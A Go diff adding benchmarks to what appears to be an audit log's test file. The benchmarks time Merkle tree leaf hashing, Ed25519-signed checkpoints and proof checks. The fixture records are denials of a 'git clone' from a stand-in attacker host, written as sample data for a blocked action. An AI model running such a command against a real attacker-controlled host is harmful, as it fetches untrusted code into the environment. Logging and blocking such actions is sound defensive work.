@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"crypto/sha256"
 	"os"
+	"strconv"
 	"syscall"
 	"testing"
 	"time"
@@ -83,6 +84,94 @@ func BenchmarkPeerSHA256Lines(b *testing.B) {
 	for b.Loop() {
 		for line := range bytes.Lines(data) {
 			sha256.Sum256(line)
+		}
+	}
+}
+
+// BenchmarkTreeLeaf is the tree's cost per record: one line hashed into
+// the tree file (RFC 6962 leaf and the subtrees it completes) as the next
+// checkpoint's catch-up does it. Appends themselves do no tree work.
+func BenchmarkTreeLeaf(b *testing.B) {
+	orig := syncData
+	syncData = func(*os.File) error { return nil }
+	defer func() { syncData = orig }()
+	l, path := openTest(b)
+	ev := denial("run_tests", "git", "clone", "https://attacker.example/repo")
+	for range b.N {
+		if _, err := l.Append(ev); err != nil {
+			b.Fatal(err)
+		}
+	}
+	f, _ := os.Open(path)
+	defer f.Close()
+	fi, _ := f.Stat()
+	t, err := openSideTree(path, "")
+	if err != nil {
+		b.Fatal(err)
+	}
+	defer t.close()
+	b.ReportAllocs()
+	reportCPU(b)
+	b.ResetTimer()
+	if err := syncTree(f, fi.Size(), t, true); err != nil {
+		b.Fatal(err)
+	}
+}
+
+// BenchmarkCheckpoint is the end of a run: after the run's four records
+// (decision, launch, outcome, teardown), the checkpoint signed over them:
+// the log's fdatasync, the catch-up, the Ed25519 signature, and the kept
+// checkpoint written and synced with its directory. Only the checkpoint
+// is timed (checkpoint-ns/op).
+func BenchmarkCheckpoint(b *testing.B) {
+	dir := b.TempDir()
+	os.Chmod(dir, 0o700)
+	s, err := LoadSigner(dir + "/" + KeyFileName)
+	if err != nil {
+		b.Fatal(err)
+	}
+	l, _ := openTest(b, WithSigner(s))
+	ev := denial("run_tests", "git", "clone", "https://attacker.example/repo")
+	var spent time.Duration
+	for b.Loop() {
+		for range 4 {
+			if _, err := l.Append(ev); err != nil {
+				b.Fatal(err)
+			}
+		}
+		start := time.Now()
+		if _, err := l.Checkpoint(); err != nil {
+			b.Fatal(err)
+		}
+		spent += time.Since(start)
+	}
+	b.ReportMetric(float64(spent.Nanoseconds())/float64(b.N), "checkpoint-ns/op")
+}
+
+// BenchmarkProveRun is a run's proofs once its checkpoint is signed: four
+// records proven from the tree file and each checked.
+func BenchmarkProveRun(b *testing.B) {
+	dir := b.TempDir()
+	os.Chmod(dir, 0o700)
+	s, _ := LoadSigner(dir + "/" + KeyFileName)
+	l, _ := openTest(b, WithSigner(s))
+	var evs []Event
+	for i := range 1000 {
+		ev, err := l.Append(denial("run_tests", "git", strconv.Itoa(i)))
+		if err != nil {
+			b.Fatal(err)
+		}
+		if i >= 996 {
+			evs = append(evs, ev)
+		}
+	}
+	cp, err := l.Checkpoint()
+	if err != nil {
+		b.Fatal(err)
+	}
+	for b.Loop() {
+		if _, err := l.Prove(cp, evs); err != nil {
+			b.Fatal(err)
 		}
 	}
 }
